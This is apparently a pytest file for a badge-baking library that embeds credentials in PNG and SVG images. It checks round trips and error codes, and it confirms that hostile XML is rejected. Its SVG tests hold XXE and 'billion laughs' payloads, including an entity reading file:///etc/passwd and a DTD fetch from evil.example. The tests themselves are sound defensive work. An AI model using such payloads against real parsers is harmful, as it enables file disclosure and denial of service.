"""Baked PNG and SVG badges: round trips, a PNG baked by another tool, bad images."""

from __future__ import annotations

import io
import json

import pytest
from PIL import Image, PngImagePlugin

from microcred.vc import baking
from microcred.vc.errors import DocumentError
from microcred.vc.verify import verify
from tests.helpers import policy, signed

SVG = (
    '<?xml version="1.0"?>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="4"/></svg>'
)


def _png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (20, 90, 200)).save(buffer, format="PNG")
    return buffer.getvalue()


def test_png_round_trip_is_byte_identical_and_verifies():
    text = json.dumps(signed(), ensure_ascii=False, indent=2)
    baked = baking.bake_png(_png(), text)
    assert baking.extract_png(baked) == text
    assert verify(baking.extract(baked).encode(), policy()).verified
    Image.open(io.BytesIO(baked)).verify()  # still a valid PNG for image tools
    rebaked = baking.bake_png(baked, "{}")
    assert baking.extract_png(rebaked) == "{}"  # replaced, not duplicated


def test_svg_round_trip_is_byte_identical_and_verifies():
    text = json.dumps(signed(), ensure_ascii=False)
    baked = baking.bake_svg(SVG, text)
    assert baking.extract_svg(baked) == text
    assert verify(baking.extract(baked.encode()).encode(), policy()).verified


def test_a_png_baked_by_another_tool_is_read():
    text = json.dumps(signed())
    info = PngImagePlugin.PngInfo()
    info.add_itxt("openbadgecredential", text, lang="", tkey="", zip=True)
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, format="PNG", pnginfo=info)
    assert baking.extract_png(buffer.getvalue()) == text


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (
            b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR" + b"x" * 13 + b"\x00\x00\x00\x00",
            "bake.png_corrupt",
        ),
        (b"GIF89a....", "bake.unknown_format"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "bake.none"),
        (b"<html></html>", "bake.not_svg"),
    ],
)
def test_bad_images_give_clear_errors(data, code):
    with pytest.raises(DocumentError) as caught:
        baking.extract(data)
    assert caught.value.code == code


def test_a_png_without_a_credential():
    with pytest.raises(DocumentError) as caught:
        baking.extract(_png())
    assert caught.value.code == "bake.none"


DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)


def test_svg_with_a_standard_doctype_is_read():
    text = json.dumps(signed())
    baked = baking.bake_svg(DOCTYPE + SVG.split("\n", 1)[1], text)
    assert baked.startswith(DOCTYPE)
    assert baking.extract(baked.encode()) == text


@pytest.mark.parametrize(
    ("subset", "code", "words"),
    [
        (  # billion laughs
            '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
            "bake.svg_entities",
            "entity 'a'",
        ),
        ('<!ENTITY x SYSTEM "file:///etc/passwd">', "bake.svg_entities", "file:///etc/passwd"),
        ('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', "bake.svg_entities", "'p'"),
        ('<!ATTLIST svg class CDATA "x">', "bake.svg_dtd_subset", "internal subset"),
    ],
)
def test_svg_dtd_subsets_and_entities_are_refused(subset, code, words):
    svg = (
        f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [{subset}]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
    )
    with pytest.raises(DocumentError) as caught:
        baking.extract(baking.bake_svg(svg, json.dumps(signed())).encode())
    assert caught.value.code == code
    assert words in caught.value.message


def test_svg_doctype_is_never_fetched(tmp_path):
    dtd = tmp_path / "x.dtd"
    dtd.write_text('<!ENTITY pwned "from the DTD">')
    svg = (
        f'<!DOCTYPE svg SYSTEM "{dtd.as_uri()}">'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&pwned;</text></svg>'
    )
    with pytest.raises(DocumentError) as caught:
        baking.extract(svg.encode())
    assert caught.value.code == "bake.not_svg"
    assert "undefined entity" in caught.value.message


def test_an_svg_in_an_unknown_encoding_is_refused_not_crashed_on():
    from microcred.vc import baking
    from microcred.vc.errors import DocumentError

    svg = b'<?xml version="1.0" encoding="x-nonexistent"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    with pytest.raises(DocumentError) as caught:
        baking.extract_svg(svg)
    assert caught.value.code == "bake.not_svg"


def test_a_json_file_with_a_byte_order_mark_is_read():
    from microcred.vc import baking

    assert baking.extract(b'\xef\xbb\xbf{"a": 1}') == '{"a": 1}'
